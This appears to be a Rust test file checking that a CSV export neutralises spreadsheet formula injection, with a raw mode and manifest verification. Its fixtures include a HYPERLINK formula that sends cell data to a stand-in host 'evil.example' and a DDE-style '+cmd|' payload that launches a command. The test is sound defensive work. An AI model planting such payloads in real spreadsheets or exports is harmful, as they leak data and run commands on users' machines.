//! CSV cells a spreadsheet would run as formulas: neutralised by default (a leading
//! `'`), raw on request, and either way the file verifies against its manifest.

use super::*;
use crate::both_backends;
use idemwatch::export::{COLUMNS, CsvCells, verify_csv};

both_backends!(
    async fn formula_cells_are_neutralised_by_default_and_still_verify(db: TestDb) {
        let f = Fixture::new(&db);
        let mut call = refund("F-1", 100, "1");
        call.intent.tenant = "=HYPERLINK(\"https://evil.example/?\"&A1)".into();
        call.intent.workflow_id = "+cmd|' /C calc'!A0".into();
        call.intent.step_id = "-2+3".into();
        call.business_ref = Some("@SUM(1+1)".into());
        call.actor = "'quoted".into();
        f.guard.run(&call, &f.client([])).await.unwrap();
        let filter = ExportFilter::default();
        let tenant_at = COLUMNS.iter().position(|c| *c == "tenant").unwrap();
        let workflow_at = COLUMNS.iter().position(|c| *c == "workflow_id").unwrap();
        let step_at = COLUMNS.iter().position(|c| *c == "step_id").unwrap();
        let ref_at = COLUMNS.iter().position(|c| *c == "business_ref").unwrap();
        let actor_at = COLUMNS.iter().position(|c| *c == "actor").unwrap();

        let (bytes, manifest) = export(&f.store, &filter, Format::Csv).await;
        assert_eq!(manifest.csv_cells, Some(CsvCells::Neutralised));
        let records = csv_records(&bytes);
        for row in &records[1..] {
            assert_eq!(row[tenant_at], "'=HYPERLINK(\"https://evil.example/?\"&A1)");
            assert_eq!(row[workflow_at], "'+cmd|' /C calc'!A0");
            assert_eq!(row[step_at], "'-2+3");
            assert_eq!(row[ref_at], "'@SUM(1+1)");
            assert_eq!(row[actor_at], "''quoted");
        }
        let report = verify_csv(&bytes[..], &manifest).unwrap();
        assert!(report.is_intact(), "{:?}", report.breaks);
        assert_eq!(report.rows, manifest.row_count);

        // The manifest as a sidecar (JSON) says how to read the cells.
        let sidecar: Manifest = serde_json::from_str(&manifest.to_pretty_json()).unwrap();
        assert!(verify_csv(&bytes[..], &sidecar).unwrap().is_intact());

        // Raw: every cell as stored; verify reads it as stored.
        let mut raw = Vec::new();
        let raw_manifest = export_to(&f.store, &filter, Format::Csv, CsvCells::Raw, &mut raw)
            .await
            .unwrap();
        assert_eq!(raw_manifest.csv_cells, Some(CsvCells::Raw));
        let records = csv_records(&raw);
        assert_eq!(records[1][tenant_at], call.intent.tenant);
        assert!(verify_csv(&raw[..], &raw_manifest).unwrap().is_intact());

        // A neutralised file checked as if raw does not verify: the flag matters.
        let mut as_raw = manifest.clone();
        as_raw.csv_cells = None;
        assert!(!verify_csv(&bytes[..], &as_raw).unwrap().is_intact());

        // NDJSON is unchanged.
        let (bytes, m) = export(&f.store, &filter, Format::Ndjson).await;
        assert_eq!(m.csv_cells, None);
        let (rows, _) = ndjson_lines(&bytes);
        assert_eq!(rows[0]["tenant"], call.intent.tenant);
    }
);
